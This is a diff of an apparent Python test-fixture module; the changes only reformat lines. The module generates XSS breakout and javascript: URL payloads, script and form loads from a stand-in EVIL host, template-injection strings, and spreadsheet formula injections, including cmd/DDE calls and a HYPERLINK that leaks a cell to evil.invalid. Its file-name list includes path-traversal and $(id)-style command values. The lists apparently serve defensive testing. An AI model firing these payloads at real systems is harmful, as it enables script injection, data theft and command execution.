@@ -30,8 +30,10 @@ def _handlers() -> Iterator[str]:
 
 def _breakouts() -> Iterator[str]:
     """Ends of what a text may stand in, each with what then runs."""
-    ends = ('"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "*/", "</title>", "</style>", "</script>", "</textarea>",
-            "</noscript>", "</template>", "</iframe>", "</xmp>", "</select>", "\\\"", "%22%3E", "&quot;&gt;")  # fmt: skip
+    ends = ('"', "'", "`", ">", '">', "'>", "-->", "--!>", "]]>", "*/", "</title>", "</style>", "</script>",
+        "</textarea>",
+            "</noscript>", "</template>", "</iframe>", "</xmp>", "</select>", "\\\"", "%22%3E",
+            "&quot;&gt;")  # fmt: skip
     for end in ends:
         yield f"{end}<script>{RUN}</script>"
         yield f"{end}<img src=x onerror={RUN}>"
@@ -41,14 +43,18 @@ def _breakouts() -> Iterator[str]:
 def _addresses() -> Iterator[str]:
     """Addresses that run something where a page links to them."""
     js = f"javascript:{RUN}"
-    yield from (js, js.upper(), js.title(), f" {js}", f"\t{js}", f"\x01{js}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
+    yield from (js, js.upper(), js.title(), f" {js}", f"\t{js}", f"\x01{js}", f"java\tscript:{RUN}",
+        f"java\nscript:{RUN}",
                 f"java\rscript:{RUN}", f"javascript\t:{RUN}", f"java&#9;script:{RUN}", f"java&Tab;script:{RUN}",
-                f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6a;avascript:{RUN}", f"javascript:%77indow.hit=1",
-                f"javascript://https://example.org/%0a{RUN}", f"javascript:https://example.org;{RUN}", f"jav\0ascript:{RUN}",
+                f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}", f"&#x6a;avascript:{RUN}",
+                "javascript:%77indow.hit=1",
+                f"javascript://https://example.org/%0a{RUN}", f"javascript:https://example.org;{RUN}",
+                f"jav\0ascript:{RUN}",
                 f"\ufeff{js}", f"\u00a0{js}", f"\u2028{js}", f"feed:{js}", f"view-source:{js}", f"vbscript:{RUN}",
                 f"livescript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
                 f"data:image/svg+xml,<svg onload={RUN}>", f"blob:{EVIL}/x", f"filesystem:{EVIL}/x", "about:blank",
-                "file:///etc/passwd", f"//{EVIL[8:]}/x", f"\\\\{EVIL[8:]}\\x", f"https:{EVIL[6:]}\" onclick={RUN} x=\"")  # fmt: skip
+                "file:///etc/passwd", f"//{EVIL[8:]}/x", f"\\\\{EVIL[8:]}\\x",
+                f"https:{EVIL[6:]}\" onclick={RUN} x=\"")  # fmt: skip
     yield from (
         f"<a href='{one}'>x</a>" for one in (js, f"java&#10;script:{RUN}", f"data:text/html,<script>{RUN}</script>")
     )
@@ -112,7 +118,7 @@ def _mutated() -> Iterator[str]:
         f"<img src=x:x onerror={RUN}//",
         f"<img '\"><script>{RUN}</script>'>",
         f"<p/onclick={RUN}//>x",
-        f"<script>eval('window.hit'+'=1')</script>",
+        "<script>eval('window.hit'+'=1')</script>",
         f"<script>setTimeout`{RUN}`</script>",
         f"<script type=module>{RUN}</script>",
         f"<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}/x\"}}}}</script>",
@@ -153,19 +159,23 @@ def _asking() -> Iterator[str]:
         f"<form action={EVIL}/><input name=x><input type=submit autofocus></form>",
         f"<script src={EVIL}/x.js></script>",
         f"<img src='{EVIL}/?",
-        f"<img name=getElementById><form name=body><input name=hit id=hit>",
-        f"<a id=defaultView name=hit href=x:1>",
+        "<img name=getElementById><form name=body><input name=hit id=hit>",
+        "<a id=defaultView name=hit href=x:1>",
     )  # fmt: skip
 
 
 def _templates() -> Iterator[str]:
     """Other languages of templates, and texts in JSON in a script."""
     yield from (
-        "{{ 7*7 }}", "{% raw %}{{ x }}", "{# x", "{{ config }}", "{{ self.__init__.__globals__ }}", "${7*7}", "#{7*7}", "*{7*7}",
-        "<%= 7*7 %>", "@(7*7)", "[[${7*7}]]", f"{{{{constructor.constructor('{RUN}')()}}}}", f"<x ng-app>{{{{$eval('{RUN}')}}}}",
-        f"<x v-html=\"'<img src=x onerror={RUN}>'\">", "%(x)s {0.__class__} {x!r}", "$(touch /tmp/x) `id`", "\\u003cscript\\u003e",
+        "{{ 7*7 }}", "{% raw %}{{ x }}", "{# x", "{{ config }}", "{{ self.__init__.__globals__ }}", "${7*7}", "#{7*7}",
+        "*{7*7}",
+        "<%= 7*7 %>", "@(7*7)", "[[${7*7}]]", f"{{{{constructor.constructor('{RUN}')()}}}}",
+        f"<x ng-app>{{{{$eval('{RUN}')}}}}",
+        f"<x v-html=\"'<img src=x onerror={RUN}>'\">", "%(x)s {0.__class__} {x!r}", "$(touch /tmp/x) `id`",
+        "\\u003cscript\\u003e",
         f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e", f"\u2028{RUN}\u2029", f"';{RUN};//", f"\";{RUN};//", f"\\';{RUN};//",
-        f"</script><script>{RUN}</script>", f"<!--<script>{RUN}//", f"<!--<script></script>{RUN}", f"\"}}</script><svg onload={RUN}>",
+        f"</script><script>{RUN}</script>", f"<!--<script>{RUN}//", f"<!--<script></script>{RUN}",
+        f"\"}}</script><svg onload={RUN}>",
         "__proto__", "constructor", "toString",
     )  # fmt: skip
 
@@ -201,23 +211,36 @@ XSS = tuple(
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 FORMULAS = (
-    "=1+1", "=HYPERLINK(\"https://evil.invalid?x=\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-1+1|cmd", "@SUM(1,1)",
-    "=WEBSERVICE(\"https://evil.invalid\")", "=IMPORTXML(\"https://evil.invalid\",\"//x\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "\"=1+1", "'=1+1", "\"\"=1+1", "\ufeff=1+1", "\x00=1+1", "\u200b=1+1",
-    "\u202e=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "%0A=1+1", ";=1+1", ",=1+1", "|=1+1", "x\n=1+1", "x\r\n=1+1",
-    "x\",=1+1", "x\";=1+1", "x\t=1+1", "=1+1\x00", "=\n1+1", "\x85=1+1", "\u2028=1+1", "\u3000=1+1", "\x1b=1+1", "\u2060=1+1",
+    "=1+1", "=HYPERLINK(\"https://evil.invalid?x=\"&A1,\"x\")", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-1+1|cmd",
+    "@SUM(1,1)",
+    "=WEBSERVICE(\"https://evil.invalid\")", "=IMPORTXML(\"https://evil.invalid\",\"//x\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "\"=1+1", "'=1+1", "\"\"=1+1", "\ufeff=1+1", "\x00=1+1",
+    "\u200b=1+1",
+    "\u202e=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "%0A=1+1", ";=1+1", ",=1+1", "|=1+1", "x\n=1+1",
+    "x\r\n=1+1",
+    "x\",=1+1", "x\";=1+1", "x\t=1+1", "=1+1\x00", "=\n1+1", "\x85=1+1", "\u2028=1+1", "\u3000=1+1", "\x1b=1+1",
+    "\u2060=1+1",
     "\xad=1+1", "\u180e=1+1", "\ufe66=1", "\ufe62=1", "\ufe63=1", "\ufe6b=1", "\u2212 1", "#NAME?", "{=1+1}",
 )  # fmt: skip
 """Cells that a program for spreadsheets may compute, or take for two."""
 
 NAMES = (
-    "..", ".", "../..", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "//x", "C:\\x", "C:x", "file:///x", "~", "~root", "-rf", "--",
-    "a/b", "a\\b", "a\0b", "\0", "a\nb", "a\rb", "a:b", "a|b", "a*b?", "<a>", '"', "'", "`id`", "$HOME", "$(id)", "%2e%2e%2f", "..%2f",
-    "%00", "..;/", "....//", "\uff0e\uff0e\uff0f", "\u2024\u2024/", "\u2215etc", ".hidden", ".htaccess", ".img2fair-records", "lock",
-    "index", "index.html", "404", "x.ttl", "x.html", "x.origins.jsonl", "CON", "con", "PRN", "aux", "NUL", "nul.txt", "COM1", "LPT9",
-    "CONIN$", "x.", "x ", " x", "x..", "x. ", "x" * 300, "\u00fc" * 200, "\U0001f600" * 100, "\u202excod.ttl", "a\u202eb", "\u200b",
-    "\u00e9", "e\u0301", "E\u0301", "\u00c9", "\u212b", "\u00c5", "A\u030a", "\ufb01", "fi", "\u0130", "i\u0307", "\u0131", "I", "i",
-    "\u017f", "s", "S", "\u00df", "ss", "SS", "\u1e9e", "LGG", "lgg", "LgG", "Lgg", "a b", "a-b", "a_b", "a.b", "a+b", "1", "01", "\u0661",
-    "project", "__proto__", "None", "null", "true", "{{ 7*7 }}", "%s", "#", "?", "a#b", "a?b", "a&b", "a=b", "a;b", "\u2028", "\x7f",
+    "..", ".", "../..", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "//x", "C:\\x", "C:x", "file:///x", "~",
+    "~root", "-rf", "--",
+    "a/b", "a\\b", "a\0b", "\0", "a\nb", "a\rb", "a:b", "a|b", "a*b?", "<a>", '"', "'", "`id`", "$HOME", "$(id)",
+    "%2e%2e%2f", "..%2f",
+    "%00", "..;/", "....//", "\uff0e\uff0e\uff0f", "\u2024\u2024/", "\u2215etc", ".hidden", ".htaccess",
+    ".img2fair-records", "lock",
+    "index", "index.html", "404", "x.ttl", "x.html", "x.origins.jsonl", "CON", "con", "PRN", "aux", "NUL", "nul.txt",
+    "COM1", "LPT9",
+    "CONIN$", "x.", "x ", " x", "x..", "x. ", "x" * 300, "\u00fc" * 200, "\U0001f600" * 100, "\u202excod.ttl",
+    "a\u202eb", "\u200b",
+    "\u00e9", "e\u0301", "E\u0301", "\u00c9", "\u212b", "\u00c5", "A\u030a", "\ufb01", "fi", "\u0130", "i\u0307",
+    "\u0131", "I", "i",
+    "\u017f", "s", "S", "\u00df", "ss", "SS", "\u1e9e", "LGG", "lgg", "LgG", "Lgg", "a b", "a-b", "a_b", "a.b", "a+b",
+    "1", "01", "\u0661",
+    "project", "__proto__", "None", "null", "true", "{{ 7*7 }}", "%s", "#", "?", "a#b", "a?b", "a&b", "a=b", "a;b",
+    "\u2028", "\x7f",
 )  # fmt: skip
 """Ids and labels that would be bad names of files, twins in case and in normal form among them."""
